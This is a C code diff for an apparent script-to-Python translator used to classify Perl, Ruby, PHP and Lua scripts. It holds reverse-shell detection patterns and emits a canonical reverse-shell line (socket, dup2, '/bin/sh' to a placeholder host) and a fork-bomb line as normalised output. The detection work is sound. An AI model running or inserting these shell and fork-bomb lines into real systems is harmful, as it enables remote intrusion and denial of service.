@@ -7,6 +7,7 @@
 
 #define MAX_DEPTH 24u
 #define MAX_NAME  96u
+#define SHELL     "script_shell" /* known to the Python resolver: a text for a shell, and no fact by itself */
 
 struct script {
     uint8_t language;
@@ -31,23 +32,23 @@ static const struct meaning {
 #define H 4u
 #define L 8u
 #define A 16u
-    { P | R | H | A, IS_COMMAND, "system", "os.system" },
-    { P | R | H, IS_COMMAND, "exec", "os.system" },
-    { R, IS_COMMAND, "spawn", "os.system" },
-    { R, IS_COMMAND, "IO.popen", "os.popen" },
-    { R, IS_COMMAND, "Open3.capture2", "os.popen" },
-    { R, IS_COMMAND, "Open3.capture2e", "os.popen" },
-    { R, IS_COMMAND, "Open3.capture3", "os.popen" },
-    { R, IS_COMMAND, "Open3.popen3", "os.popen" },
-    { R, IS_COMMAND, "Process.spawn", "os.system" },
-    { R, IS_COMMAND, "Kernel.system", "os.system" },
-    { H, IS_COMMAND, "shell_exec", "os.popen" },
-    { H, IS_COMMAND, "passthru", "os.system" },
-    { H, IS_COMMAND, "popen", "os.popen" },
-    { H, IS_COMMAND, "proc_open", "os.popen" },
-    { H, IS_COMMAND, "pcntl_exec", "os.system" },
-    { L, IS_COMMAND, "os.execute", "os.system" },
-    { L, IS_COMMAND, "io.popen", "os.popen" },
+    { P | R | H | A, IS_COMMAND, "system", SHELL },
+    { P | R | H, IS_COMMAND, "exec", SHELL },
+    { R, IS_COMMAND, "spawn", SHELL },
+    { R, IS_COMMAND, "IO.popen", SHELL },
+    { R, IS_COMMAND, "Open3.capture2", SHELL },
+    { R, IS_COMMAND, "Open3.capture2e", SHELL },
+    { R, IS_COMMAND, "Open3.capture3", SHELL },
+    { R, IS_COMMAND, "Open3.popen3", SHELL },
+    { R, IS_COMMAND, "Process.spawn", SHELL },
+    { R, IS_COMMAND, "Kernel.system", SHELL },
+    { H, IS_COMMAND, "shell_exec", SHELL },
+    { H, IS_COMMAND, "passthru", SHELL },
+    { H, IS_COMMAND, "popen", SHELL },
+    { H, IS_COMMAND, "proc_open", SHELL },
+    { H, IS_COMMAND, "pcntl_exec", SHELL },
+    { L, IS_COMMAND, "os.execute", SHELL },
+    { L, IS_COMMAND, "io.popen", SHELL },
     { P, IS_OPEN, "open", "open" },
     { P, IS_OPEN, "sysopen", "open" },
     { P, IS_OPEN, "read_file", "open" },
@@ -277,8 +278,8 @@ static void write_string(struct script *s, char open, bool is_raw)
             write_text(s, "{}");
             bool is_braced = c == '#' || peek(s, 1) == '{';
             skip(s, 1 + is_braced);
-            while (!is_end(s) && (is_braced ? peek(s, 0) != '}' && peek(s, 0) != end
-                                            : is_letter(peek(s, 0)) || is_digit(peek(s, 0))))
+            while (!is_end(s) &&
+                   (is_braced ? peek(s, 0) != '}' && peek(s, 0) != end : is_letter(peek(s, 0)) || is_digit(peek(s, 0))))
                 skip(s, 1);
             skip(s, is_braced && peek(s, 0) == '}');
             continue;
@@ -395,7 +396,7 @@ static void write_open(struct script *s, size_t from)
         size--;
     path[size] = '\0';
     s->out->size = from;
-    write_text(s, is_command ? "0);os.popen('" : "'");
+    write_text(s, is_command ? "0);" SHELL "('" : "'");
     write_text(s, path);
     write_text(s, is_write && !is_command ? "','w" : "'");
     write_text(s, is_write && !is_command ? "'" : "");
@@ -442,11 +443,10 @@ static void call(struct script *s, const struct meaning *m)
         write_open(s, from);
     if (m->kind == IS_KILL)
         swap_two(s, from);
-    if (m->kind == IS_COMMAND && s->out->size > from &&
-        memmem(s->out->data + from, s->out->size - from, "sh", 2))
+    if (m->kind == IS_COMMAND && s->out->size > from && memmem(s->out->data + from, s->out->size - from, "sh", 2))
         s->has_shell = true;
     write_text(s, m->kind == IS_NET ? "))" : ")");
-    if (m->kind == IS_OPEN || str_eq(m->python ? m->python : "", "os.popen"))
+    if (m->kind == IS_OPEN || str_eq(m->python ? m->python : "", SHELL))
         write_text(s, ".read()");
 }
 
@@ -478,7 +478,7 @@ static bool skip_pattern(struct script *s, const char *name)
 
 static void command_in_quotes(struct script *s, char open)
 {
-    write_text(s, "os.popen(");
+    write_text(s, SHELL "(");
     size_t from = s->out->size;
     write_string(s, open, false);
     s->has_shell |= s->out->size > from && memmem(s->out->data + from, s->out->size - from, "sh", 2);
@@ -495,7 +495,7 @@ static void write_popen(struct script *s, size_t from)
     memcpy(command, s->out->data + from, n);
     command[n] = '\0';
     s->out->size = from;
-    write_text(s, "os.popen(");
+    write_text(s, SHELL "(");
     write_text(s, command);
     write_text(s, ")");
 }
@@ -649,8 +649,9 @@ static bool is_mentioned(const struct script *s, const char *word)
 
 static bool has_endless_loop(const struct script *s)
 {
-    static const char *const forms[] = { "while(1)",  "while (1)",    "while 1",  "while true", "while(true)", "while (true)",
-                                         "for(;;)",   "for (;;)",     "loop do",  "loop {",     "until 0",     "loop{" };
+    static const char *const forms[] = { "while(1)",    "while (1)",    "while 1", "while true",
+                                         "while(true)", "while (true)", "for(;;)", "for (;;)",
+                                         "loop do",     "loop {",       "until 0", "loop{" };
     for (size_t i = 0; i < ARRAY_LEN(forms); i++)
         if (is_mentioned(s, forms[i]))
             return true;
@@ -660,25 +661,30 @@ static bool has_endless_loop(const struct script *s)
 /* A shell whose streams are a connection's: the parts stand in the text, in whatever order. */
 static bool is_reverse_shell(const struct script *s)
 {
-    static const char *const joins[] = { "STDIN",  ">&S",        "to_i",       "fileno",    "dup2", "reopen", "<&3", "0=>",
-                                         "array(0", "proc_open", ":receive(", ":receive()", "/inet/tcp" };
+    static const char *const joins[] = { "STDIN", ">&S",     "to_i",      "fileno",    "dup2",       "reopen",   "<&3",
+                                         "0=>",   "array(0", "proc_open", ":receive(", ":receive()", "/inet/tcp" };
     bool has_join = false, has_shell = s->has_shell || is_mentioned(s, "/bin/sh") || is_mentioned(s, "/bin/bash");
     for (size_t i = 0; i < ARRAY_LEN(joins); i++)
         has_join |= is_mentioned(s, joins[i]);
-    bool runs_what_comes = is_mentioned(s, ":receive(") && (is_mentioned(s, "io.popen") || is_mentioned(s, "os.execute"));
-    bool has_net = s->has_net || is_mentioned(s, "/inet/tcp/");
+    bool runs_what_comes = is_mentioned(s, ":receive(") &&
+                           (is_mentioned(s, "io.popen") || is_mentioned(s, "os.execute"));
+    bool has_net = s->has_net || is_mentioned(s, "/inet/tcp/") ||
+                   (s->language == EMBEDDED_LUA && is_mentioned(s, "socket"));
     return has_net && ((has_join && has_shell) || runs_what_comes);
 }
 
 void script_as_python(uint8_t language, const char *text, size_t size, struct buf *ret)
 {
-    struct script s = { .language = language, .text = text, .size = (uint32_t)MIN_OF(size, (size_t)UINT32_MAX / 2), .out = ret };
+    struct script s = {
+        .language = language, .text = text, .size = (uint32_t)MIN_OF(size, (size_t)UINT32_MAX / 2), .out = ret
+    };
     buf_init(ret, SCRIPT_MAX_BYTES);
     s.is_endless = has_endless_loop(&s);
     write_text(&s, "import os, shutil, glob, base64; ");
     if (is_mentioned(&s, "ocket") || is_mentioned(&s, "fsockopen"))
         write_text(&s, "import socket; ");
-    if (is_mentioned(&s, "HTTP") || is_mentioned(&s, "LWP") || is_mentioned(&s, "curl_init") || is_mentioned(&s, "http.r"))
+    if (is_mentioned(&s, "HTTP") || is_mentioned(&s, "LWP") || is_mentioned(&s, "curl_init") ||
+        is_mentioned(&s, "http.r"))
         write_text(&s, "import requests; ");
     while (!is_end(&s) && !ret->failed) {
         skip_blanks(&s, true);
@@ -702,7 +708,8 @@ void script_as_python(uint8_t language, const char *text, size_t size, struct bu
     }
     end_lines(&s);
     if (is_reverse_shell(&s))
-        write_text(&s, "\nimport os, socket; _s = socket.create_connection(('{}', 1)); os.dup2(_s.fileno(), 0); os.system('/bin/sh')\n");
+        write_text(&s, "\nimport os, socket; _s = socket.create_connection(('{}', 1)); os.dup2(_s.fileno(), 0); "
+                       "os.system('/bin/sh')\n");
     if (s.is_endless && is_mentioned(&s, "fork"))
         write_text(&s, "\nwhile True: os.fork()\n");
 }
